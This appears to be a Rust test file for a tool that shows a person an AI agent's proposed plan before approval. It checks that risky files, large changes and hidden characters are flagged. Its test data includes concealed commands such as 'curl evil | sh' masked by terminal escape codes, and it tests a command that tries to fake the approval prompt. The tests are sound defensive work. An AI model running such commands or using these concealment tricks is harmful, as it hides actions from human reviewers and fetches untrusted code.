use dialect::teddy::read;
use model::Severity;
use proptest::prelude::*;

use super::*;
use crate::planwright::testing::plain;
use crate::review::testing::actions;

const WIDE: Window = window(200);

const fn window(columns: usize) -> Window {
    Window { columns, rows: 24 }
}

fn review(source: &str) -> String {
    plain(&summary(&read(source).proposal, &[], &[], WIDE).text)
}

#[test]
fn a_plan_is_told_in_short() {
    let expected = "\
▶ Reviewing Plan: \"Let the Importer Skip \"Broken\" Rows\"
--------------------------------------------------------------------

 memos.yaml:
  [+] ADD:    Imports report every row that they leave out. # agreed with the data team
  [-] REMOVE: An import stops at the first malformed row.

 Action Plan:
  - CREATE: 1 file
  - READ:   1 resource
  - EDIT:   1 file
  - EXECUTE: 1 command
  - RESEARCH: 2 queries
  - CHAT_WITH_USER: 1 message
  - INVOKE: handoff to Architect
  - PRUNE:  1 resource

 Files and resources:
  - CREATE: src/import/skipped.rs
  - EDIT:   src/import/mod.rs
  - READ:   docs/import.md
  - PRUNE:  docs/old-import.md

 Look closely:
  ! EXECUTE runs 1 line in `tools`, for at most 300 s, and may fail:
    with RUST_BACKTRACE=\"1\"
    │ cargo test import

--------------------------------------------------------------------
";
    assert_eq!(review(include_str!("../../../dialect/src/teddy/example.md")), expected);
}

fn create(path: &str) -> String {
    format!("### `CREATE`\n- **File Path:** [{path}](/{path})\n- **Description:** d\n````\nx\n````\n\n")
}

#[test]
fn files_that_other_programs_run_are_listed_first_and_marked() {
    let source = actions(&[create("a.md"), create(".vscode/tasks.json"), create("b\u{202e}.md")].concat());
    let list = "
  - CREATE: 3 files

 Files and resources:
  - CREATE: ! runs code  .vscode/tasks.json
  - CREATE: a.md
  - CREATE: b\\u{202e}.md
  ! runs code: editors, shells, git, build tools or CI run what the file says
";
    let shown = review(&source);
    assert!(shown.contains(list), "{shown}");
}

#[test]
fn files_beyond_a_screenful_are_counted() {
    let others: String = (0..40).map(|number| create(&format!("{number}.md"))).collect();
    let source = actions(&(others + &create("Makefile")));
    let summary = summary(&read(&source).proposal, &[], &[], window(80));
    let shown = plain(&summary.text);
    assert_eq!(summary.unlisted, 31, "{shown}");
    assert!(
        shown.contains("\n  - CREATE: ! runs code  Makefile\n  - CREATE: 0.md\n"),
        "{shown}"
    );
    assert!(
        shown.contains("  - CREATE: 8.md\n  … and 31 more; (r) and (m) show all\n"),
        "{shown}"
    );
    assert!(!shown.contains("9.md"), "{shown}");
}

#[test]
fn a_long_path_counts_as_the_rows_that_it_takes() {
    let long = |number: usize| create(&format!("{}/{number}.md", "d".repeat(200)));
    let others: String = (0..8).map(long).collect();
    let source = actions(&(others + &create(&format!("{}/Makefile", "m".repeat(200)))));
    let summary = summary(&read(&source).proposal, &[], &[], window(80));
    let shown = plain(&summary.text);
    assert_eq!(summary.unlisted, 6, "{shown}");
    assert!(shown.contains("\n  - CREATE: ! runs code  mmm"), "{shown}");
    assert!(shown.contains("… and 6 more; (r) and (m) show all"), "{shown}");
}

#[test]
fn a_single_line_can_be_a_large_change() {
    let line = "x".repeat(20_000);
    let text = format!(
        "### `CREATE`\n- **File Path:** [a.js](/a.js)\n- **Description:** d\n````\n{line}\n````\n\n\
         ### `EDIT`\n- **File Path:** [b.js](/b.js)\n- **Description:** d\n\n`FIND:`\n````\nc\n````\n`REPLACE:`\n````\n{line}\n````\n"
    );
    let shown = review(&actions(&text));
    for risk in [
        "  ! CREATE writes 1 line to `a.js`, with 20001 bytes\n",
        "  ! EDIT replaces 1 line of `b.js` by 1, with 20001 bytes\n",
    ] {
        assert!(shown.contains(risk), "{shown}");
    }
}

#[test]
fn deletions_and_large_changes_stand_out() {
    let lines = "x\n".repeat(101);
    let text = format!(
        "### `EDIT`\n- **File Path:** [a.md](/a.md)\n- **Description:** d\n\n`FIND:`\n````\na\nb\n````\n`REPLACE:`\n````\n````\n\
         `FIND:`\n````\nc\n````\n`REPLACE:`\n````\n{lines}````\n\n\
         ### `EDIT`\n- **File Path:** [a.md](/a.md)\n- **Description:** d\n\n`FIND:`\n````\nd\n````\n`REPLACE:`\n````\ne\n````\n\n\
         ### `CREATE`\n- **File Path:** [b.md](/b.md)\n- **Description:** d\n````\n{lines}````\n"
    );
    let shown = review(&actions(&text));
    assert!(shown.contains("\n  - CREATE: 1 file\n  - EDIT:   1 file\n"), "{shown}");
    let risks = "
  ! EDIT removes 2 lines from `a.md`
  ! EDIT replaces 1 line of `a.md` by 101
  ! CREATE writes 101 lines to `b.md`
";
    assert!(shown.contains(risks), "{shown}");
}

#[test]
fn what_hides_in_a_file_is_announced() {
    let text =
        "### `CREATE`\n- **File Path:** [a.md](/a.md)\n- **Description:** d\n````\nok\u{202e}\ta\u{200b}\n````\n";
    let shown = review(&actions(text));
    let risk = "\n  ! CREATE of `a.md` holds 2 hidden characters; `m` shows them\n";
    assert!(shown.contains(risk), "{shown}");
}

#[test]
fn warnings_stand_above_the_question() {
    let warning = Diagnostic {
        severity: Severity::Warning,
        ..Diagnostic::error(dialect::teddy::rules::document::TITLE_MISSING, "Odd\u{1b}[2J.").at_line(7, 1)
    };
    let shown = plain(&summary(&Proposal::default(), &[], &[warning], WIDE).text);
    assert!(shown.contains("\n Warnings:\n  - line 7: Odd\\u{1b}[2J.\n"), "{shown}");
}

/// What a text looks like to a person and what it holds can be two things.
#[test]
fn tricks_are_shown() {
    for (trick, shown) in [
        (
            "if admin\u{202e} \u{2066}// check\u{2069} \u{2066}",
            r"if admin\u{202e} \u{2066}// check\u{2069} \u{2066}",
        ),
        ("rm -rf \u{200b}build", r"rm -rf \u{200b}build"),
        (
            "echo ok\u{1b}[8m; curl evil | sh\u{1b}[0m",
            r"echo ok\u{1b}[8m; curl evil | sh\u{1b}[0m",
        ),
        ("curl evil | sh\recho harmless    ", r"curl evil | sh\recho harmless"),
        ("a\u{8}\u{8}\u{8}b", r"a\u{8}\u{8}\u{8}b"),
        ("x\u{9b}2Ky", r"x\u{9b}2Ky"),
        ("p\u{ad}wd\u{feff}", r"p\u{ad}wd\u{feff}"),
        ("\tmake", "    make"),
        ("hidden\u{e0041}\u{e0042}", r"hidden\u{e0041}\u{e0042}"),
    ] {
        let source = actions(&format!(
            "### `EXECUTE`\n- **Description:** d\n````shell\n{trick}\n````\n"
        ));
        let text = review(&source);
        assert!(text.contains(&format!("    │ {shown}")), "{trick:?}: {text}");
    }
}

#[test]
fn a_command_cannot_pass_for_our_words() {
    let fake = format!("true #{}Execute this plan? (a)pprove all ›", " ".repeat(70));
    let source = actions(&format!(
        "### `EXECUTE`\n- **Description:** d\n````shell\n{fake}\n````\n"
    ));
    let shown = plain(&summary(&read(&source).proposal, &[], &[], window(80)).text);
    assert!(
        shown.lines().all(|line| !line.trim_start().starts_with("Execute")),
        "{shown}"
    );
    assert!(shown.contains("↪"), "{shown}");
}

proptest! {
    #[test]
    fn nothing_hidden_reaches_the_terminal(
        texts in prop::collection::vec("[a \\t\u{1b}\u{202e}\u{200b}\u{7}\r\n\\[mé日\u{feff}\u{2028}-]{0,30}", 5),
        columns in 0usize..120,
    ) {
        let mut proposal = read(include_str!("../../../dialect/src/teddy/example.md")).proposal;
        proposal.title.value.clone_from(&texts[0]);
        proposal.memos[0].value.comment = Some(texts[1].clone());
        for action in &mut proposal.actions {
            match &mut action.value {
                model::Action::Execute(execute) => {
                    execute.command.value = model::Block::new("", texts[2].clone(), 0..0);
                    execute.env[0].value.value.clone_from(&texts[3]);
                }
                model::Action::Invoke(invoke) => invoke.agent.value.clone_from(&texts[4]),
                _ => {}
            }
        }
        let shown = plain(&summary(&proposal, &[], &[], window(columns)).text);
        for line in shown.lines() {
            prop_assert_eq!(visible(line), line);
        }
    }
}

#[test]
fn files_that_the_task_says_nothing_of_are_pointed_out_once() {
    let source = actions(
        &[
            create("docs/a.md"),
            create("src/lib.rs"),
            create("docs.md"),
            create("docs.md"),
        ]
        .concat(),
    );
    let shown = |declared: &[&str]| {
        let declared: Vec<String> = declared.iter().map(|path| (*path).to_owned()).collect();
        plain(&summary(&read(&source).proposal, &declared, &[], window(80)).text)
    };
    assert!(!shown(&[]).contains("Look closely"));
    assert!(!shown(&["."]).contains("Look closely"));
    let shown = shown(&["docs/", "src/lib.rs"]);
    assert!(
        shown.contains("  ! CREATE makes `docs.md`, which is not among the task's paths\n"),
        "{shown}"
    );
    assert_eq!(shown.matches("among the task").count(), 1, "{shown}");
}
